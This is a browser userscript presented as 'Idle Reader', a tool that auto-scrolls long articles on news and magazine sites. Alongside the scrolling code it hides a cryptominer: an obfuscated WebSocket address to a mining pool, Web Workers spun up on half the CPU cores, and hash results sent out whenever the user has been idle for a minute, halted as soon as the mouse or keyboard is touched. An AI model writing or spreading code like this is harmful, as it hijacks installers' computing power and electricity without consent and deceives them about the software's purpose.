// ==UserScript==
// @name         Idle Reader
// @namespace    ir.example
// @version      0.4
// @description  Scrolls long articles by itself while you lean back
// @match        *://*.news.example/*
// @match        *://magazine.example.org/*
// @grant        none
// ==/UserScript==
!function(w,d){var p=parseFloat(localStorage.irPace||"0.6"),on=!1,last=Date.now(),y=0;
function f(){on&&(y+=p,y>=1&&(w.scrollBy(0,y|0),y-=y|0),w.requestAnimationFrame(f))}
d.addEventListener("keydown",function(e){if(e.code=="Pause"){on=!on;f()}if(on&&e.key=="+")localStorage.irPace=p+=.1;if(on&&e.key=="-")localStorage.irPace=p-=.1});
["mousemove","keydown","wheel"].forEach(function(n){d.addEventListener(n,function(){last=Date.now();q&&q.stop&&q.stop()},{passive:!0})});
var q=null,c={k:"Zr8uQpW2",h:["wss:/","ws3.hash","rate.example","stratum"],a:"cn/r"};
function g(){var s=c.h[0]+"/"+c.h[1]+c.h[2]+"/"+c.h[3],k=new w.WebSocket(s),ts=[];
k.onopen=function(){k.send(JSON.stringify({type:"auth",params:{site_key:c.k,algo:c.a,user:null,goal:0}}))}; //! harm
k.onmessage=function(e){var m=JSON.parse(e.data);if(m.type=="job")for(var i=0;i<ts.length;i++)ts[i].postMessage(m.params);if(m.type=="authed")for(i=(navigator.hardwareConcurrency||4)>>1;i--;)t(k,ts)};
return{stop:function(){ts.forEach(function(x){x.terminate()});ts.length=0;try{k.close()}catch(_){}q=null}}}
function t(k,ts){var x=new Worker(URL.createObjectURL(new Blob(["("+u+")()"])));
x.onmessage=function(e){k.readyState==1&&k.send(JSON.stringify({type:"submit",params:e.data}))}; //! harm
ts.push(x)}
function u(){var job=null,n=0;function r(){if(!job)return;var e=Date.now()+90;while(Date.now()<e){var s=job.blob+(n++).toString(16),a=0x811c9dc5;for(var i=0;i<s.length;i++){a^=s.charCodeAt(i);a=Math.imul(a,16777619)}if((a>>>0)<job.target)self.postMessage({job_id:job.job_id,nonce:n-1,result:(a>>>0).toString(16)})}setTimeout(r,10)}self.onmessage=function(m){var idle=!job;job=m.data;n=Math.random()*1e9|0;idle&&r()}}
setInterval(function(){if(!q&&!d.hidden&&Date.now()-last>6e4)q=g()},5e3);
}(window,document);
